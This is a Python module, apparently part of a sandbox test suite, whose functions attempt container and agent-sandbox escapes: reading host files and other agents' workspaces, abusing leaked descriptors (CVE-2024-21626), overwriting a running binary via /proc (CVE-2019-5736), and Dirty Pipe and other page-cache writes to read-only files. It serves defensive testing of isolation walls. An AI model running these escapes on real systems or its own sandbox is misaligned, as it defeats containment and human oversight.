"""Attempts on files: those of the host, read-only ones, descriptors, masks."""

from __future__ import annotations

import errno
import fcntl
import mmap
import os
import signal
import stat
from collections.abc import Callable
from contextlib import suppress
from typing import Any

from security.escapes.attempts.base import (
    Stopped,
    add,
    attempt,
    call,
    connect,
    find,
    first,
    held_open,
    libc,
    mount_points,
    read,
    read_all,
    roots,
)

ROOT = ("private root",)
SEALED = ("read-only mounts", "landlock")
HELD = (*SEALED, "capabilities")
LEAK = ("closed descriptors", "landlock")


def _steal(path: str) -> str:
    def try_(name: str) -> Callable[[], str]:
        return lambda: f"{name}: {read(name)!r}"

    return first(*[try_(name) for name in find(path)])


# -- the host's files ---------------------------------------------------------------------------------------------------


@attempt(*ROOT)
def host_file(facts: Any) -> str:
    """Read a file of the host that everyone may read, by every root that can be named"""
    return _steal(facts["secret"])


@attempt(*ROOT)
def host_accounts(facts: Any) -> str:
    """Read the host's list of users"""
    for name in find("/etc/passwd"):
        with suppress(OSError):
            if len(read_all(name).splitlines()) > 1:
                return name
    raise Stopped("only its own")


@attempt(*ROOT)
def host_directories(facts: Any) -> str:
    """List the host's top directory"""
    for name in roots():
        with suppress(OSError):
            if "var" in os.listdir(name or "/"):
                return name
    raise Stopped("only its own")


@attempt(*ROOT)
def data_directory(facts: Any) -> str:
    """List the kernel's data directory"""
    return first(*[lambda name=name: f"{name}: {os.listdir(name)}" for name in find(facts["data"])])


@attempt(*ROOT)
def other_workspace(facts: Any) -> str:
    """Read a file of another agent's workspace"""
    return _steal(facts["other_file"])


@attempt(*ROOT)
def host_socket(facts: Any) -> str:
    """Connect to a socket of the kernel or of another agent by its path on the host"""
    return first(*[lambda name=name: connect(name) for name in find(facts["socket"])])


@attempt(*ROOT)
def directories_above(facts: Any) -> str:
    """Climb with `..` from every directory that is bound from the host"""
    wanted = os.path.basename(facts["secret"])
    tops = [point for point in mount_points() if os.path.isdir(point)]
    for top in [*tops, ".", "/proc/self/cwd", "/proc/1/cwd"]:
        for depth in range(1, 12):
            above = top + "/.." * depth
            with suppress(OSError):
                if wanted in os.listdir(above) or os.path.exists(above + facts["secret"]):
                    return above
    # The roots that the private root takes away are ways up as well.
    return _steal(facts["secret"])


# -- descriptors --------------------------------------------------------------------------------------------------------


def _directories() -> list[int]:
    found: list[int] = []
    for name in os.listdir("/proc/self/fd"):
        with suppress(OSError):
            if stat.S_ISDIR(os.stat(f"/proc/self/fd/{name}").st_mode):
                found.append(int(name))
    return found


@attempt(*LEAK)
def leaked_directory(facts: Any) -> str:
    """Open the host's files beneath a directory descriptor that was left open (CVE-2024-21626)"""
    last: Exception = Stopped("no directory is open")
    for descriptor in _directories():
        for path in (facts["secret"].lstrip("/"), "../../../../../../" + facts["secret"].lstrip("/")):
            try:
                opened = os.open(path, os.O_RDONLY, dir_fd=descriptor)
                return f"{descriptor}: {os.read(opened, 100)!r}"
            except OSError as error:
                last = error
    raise last


@attempt("closed descriptors", "landlock")
def leaked_working_directory(facts: Any) -> str:
    """Change into a directory descriptor that was left open and climb from there (CVE-2024-21626)"""
    last: Exception = Stopped("no directory is open")
    for descriptor in _directories():
        try:
            os.fchdir(descriptor)
            return repr(read("." + facts["secret"]))
        except OSError as error:
            last = error
    raise last


@attempt("closed descriptors")
def inherited_descriptors(facts: Any) -> str:
    """Find any descriptor beyond the standard streams"""
    found: dict[str, str] = {}
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            with suppress(OSError):
                found[name] = os.readlink(f"/proc/self/fd/{name}")
    # The attempt's own: where it answers.
    left = {name: target for name, target in found.items() if not target.startswith("pipe:")}
    if left:
        return str(left)
    raise Stopped("none")


# -- read-only mounts -----------------------------------------------------------------------------------------------------


@attempt(*HELD, user_walls=SEALED)
def write_system(facts: Any) -> str:
    """Make a file in the root, /etc, /dev or /run"""
    return first(*[_plant(f"{top}/planted") for top in ("", "/etc", "/dev", "/run")])


def _plant(path: str) -> Callable[[], str]:
    def act() -> str:
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
        return path

    return act


@attempt(*SEALED, kind="program")
def write_program(facts: Any) -> str:
    """Make a file in the program image"""
    os.close(os.open("/program/planted", os.O_CREAT | os.O_WRONLY))
    return "/program/planted"


@attempt(*SEALED, kind="program")
def change_program(facts: Any) -> str:
    """Open a file of the program image for writing"""
    descriptor = os.open("/program/target", os.O_WRONLY)
    os.write(descriptor, b"changed")
    return "/program/target"


def _alter(name: str, change: Callable[[], object], *walls: str, text: str) -> None:
    def run(_facts: Any) -> str:
        change()
        return "changed"

    add(name, run, walls, kind="program", what=text)


# Landlock knows no right for these three: the mount alone holds them.
_alter(
    "chmod_program",
    lambda: os.chmod("/program/target", 0o600),
    SEALED[0],
    text="Change the mode of the program image",
)
_alter(
    "touch_program",
    lambda: os.utime("/program/target", (1, 1)),
    SEALED[0],
    text="Change times of the program image",
)
_alter(
    "xattr_program",
    lambda: os.setxattr("/program/target", "user.planted", b"x"),
    SEALED[0],
    text="Set an attribute on a file of the program image",
)
_alter(
    "truncate_program",
    lambda: os.truncate("/program/target", 1),
    *SEALED,
    text="Cut a file of the program image",
)
_alter(
    "remove_program", lambda: os.unlink("/program/spare"), *SEALED, text="Remove a file of the program image"
)
_alter(
    "link_program",
    lambda: os.link("/program/target", "/program/linked"),
    *SEALED,
    text="Give a file of the program image a second name",
)
_alter(
    "replace_socket",
    lambda: os.rename("/run/ringfence/spare", "/run/ringfence/syscall.sock"),
    *SEALED,
    text="Put another socket in place of the kernel's",
)


@attempt(*SEALED, kind="program")
def write_through_read_only_handle(facts: Any) -> str:
    """Open for reading, then again for writing by the handle's own name in /proc"""
    descriptor = os.open("/program/target", os.O_RDONLY)
    again = os.open(f"/proc/self/fd/{descriptor}", os.O_RDWR)
    os.write(again, b"changed")
    return "changed"


@attempt(*SEALED, kind="program")
def write_running_executable(facts: Any) -> str:
    """Overwrite the program that a process runs, by its /proc/PID/exe (CVE-2019-5736)"""
    pid, write_end = held_open("/program/cat")
    handle = os.open(f"/proc/{pid}/exe", os.O_PATH)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    os.close(write_end)
    os.write(os.open(f"/proc/self/fd/{handle}", os.O_WRONLY), b"#!")
    return "changed"


def _page_cache_tricks() -> dict[str, Callable[[int], object]]:
    here = os.open("/tmp/page", os.O_RDWR | os.O_CREAT, 0o600)
    os.write(here, b"changed")

    def memory(descriptor: int) -> None:
        page = mmap.mmap(descriptor, 4096, mmap.MAP_SHARED, mmap.PROT_READ)
        with open("/proc/self/maps") as maps:
            start = next(int(line.split("-")[0], 16) for line in maps if "/program/cached" in line)
        with open("/proc/self/mem", "r+b", buffering=0) as own:
            own.seek(start)
            own.write(b"changed")
        page.close()

    def protect(descriptor: int) -> None:
        page = mmap.mmap(descriptor, 4096, mmap.MAP_SHARED, mmap.PROT_READ)
        with open("/proc/self/maps") as maps:
            start = next(int(line.split("-")[0], 16) for line in maps if "/program/cached" in line)
        if libc.mprotect(start_pointer(start), 4096, 3) != 0:
            page.close()
            raise OSError(errno.EACCES, "mprotect")

    def pipe(descriptor: int) -> None:
        # The order of Dirty Pipe: fill, drain, splice a page of the file in, write behind it.
        read_end, write_end = os.pipe()
        size = fcntl.fcntl(write_end, 1032)
        os.write(write_end, bytes(size))
        left = size
        while left:
            left -= len(os.read(read_end, left))
        os.splice(descriptor, write_end, 1, offset_src=0)
        os.write(write_end, b"changed")

    return {
        "write": lambda fd: os.write(fd, b"changed"),
        "pwrite": lambda fd: os.pwrite(fd, b"changed", 0),
        "truncate": lambda fd: os.ftruncate(fd, 0),
        "allocate": lambda fd: call("fallocate", fd, 0, 0, 4096),
        "punch": lambda fd: call("fallocate", fd, 3, 0, 4096),
        "copy": lambda fd: os.copy_file_range(here, fd, 7, 0, 0),
        "send": lambda fd: os.sendfile(fd, here, 0, 7),
        "clone": lambda fd: fcntl.ioctl(fd, 0x40049409, here),
        "map": lambda fd: mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_WRITE | mmap.PROT_READ),
        "protect": protect,
        "memory": memory,
        "pipe": pipe,
    }


def start_pointer(start: int) -> Any:
    import ctypes

    return ctypes.c_void_p(start)


@attempt(*SEALED, kind="program")
def page_cache_of_read_only_file(facts: Any) -> str:
    """Change the cached pages of a read-only file without write access to it: twelve ways, Dirty Pipe's among them"""
    before = read("/program/cached")
    try:
        descriptor = os.open("/program/cached", os.O_RDWR)
    except OSError as error:
        if error.errno not in (errno.EROFS, errno.EACCES):
            raise
        descriptor = os.open("/program/cached", os.O_RDONLY)
    for name, trick in _page_cache_tricks().items():
        with suppress(OSError, ValueError):
            trick(descriptor)
        if read("/program/cached") != before:
            return name
    raise Stopped("unchanged")
